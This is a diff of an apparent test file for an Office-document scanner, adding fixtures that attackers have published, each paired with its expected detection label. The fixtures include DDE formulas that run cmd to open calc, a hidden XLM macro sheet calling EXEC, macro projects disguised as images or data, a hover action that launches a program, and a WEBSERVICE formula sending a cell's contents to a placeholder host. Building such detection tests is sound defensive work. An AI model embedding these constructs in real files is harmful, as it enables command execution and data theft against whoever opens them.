@@ -51,6 +51,65 @@ describe("a document made by LibreOffice", () => {
   })
 })
 
+describe("forms that attackers have published", () => {
+  const types = { name: "[Content_Types].xml", data: "<Types/>" }
+  const docx = (...parts: readonly { readonly name: string; readonly data: string | Buffer }[]): Buffer =>
+    zip([types, { name: "word/document.xml", data: "<w:document/>" }, ...parts])
+  const xlsx = (name: string, data: string): Buffer =>
+    zip([types, { name: "xl/workbook.xml", data: "<workbook/>" }, { name, data }])
+  const sheet = (formula: string): Buffer =>
+    xlsx(
+      "xl/worksheets/sheet1.xml",
+      `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
+    )
+  const slide = (action: string): Buffer =>
+    zip([
+      types,
+      { name: "ppt/slides/slide1.xml", data: `<p:sld><a:hlinkMouseOver action="${action}" r:id="rId2"/></p:sld>` },
+    ])
+  const relation = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
+  rows([
+    [
+      "a project that calls itself a picture",
+      docx({ name: "word/media/a.png", data: compound(project(OPENS)) }),
+      "a.docx",
+      "macro auto-run",
+    ],
+    [
+      "a project that calls itself data",
+      docx({ name: "word/theme.dat", data: compound(project(STARTS)) }),
+      "a.docx",
+      "macro suspicious",
+    ],
+    [
+      "a macro sheet under another name",
+      xlsx("xl/worksheets/sheet9.xml", '<xm:macrosheet><c><f>EXEC("calc")</f></c></xm:macrosheet>'),
+      "a.xlsx",
+      "macro xlm, macro suspicious",
+    ],
+    [
+      "a binary macro sheet under another name",
+      xlsx(
+        "xl/_rels/workbook.bin.rels",
+        `<Relationships><Relationship Type="${relation}" Target="s1.bin"/></Relationships>`,
+      ),
+      "a.xlsb",
+      "macro xlm",
+    ],
+    ["DDE in a cell", sheet("cmd|'/c calc'!A0"), "a.xlsx", "active-content dde"],
+    ["DDE behind a sum", "\"=2+5+cmd|' /C calc'!A0\",1\n", "a.csv", "active-content dde"],
+    [
+      "a formula that fetches",
+      sheet('WEBSERVICE("http://example.org/"&amp;A2)'),
+      "a.xlsx",
+      "external-reference web-function",
+    ],
+    ["a program under the mouse", slide("ppaction://program"), "a.ppsx", "active-content program-action"],
+    ["a jump to another slide is none", slide("ppaction://hlinksldjump"), "a.pptx", ""],
+    ["a formula that counts is none", sheet("SUM(A1:A9)&amp;'Tổng|hợp'!A1"), "a.xlsx", ""],
+  ])
+})
+
 describe("a macro", () => {
   rows([
     ["that only counts is plain", macros(COUNTS), "a.doc", "macro plain"],
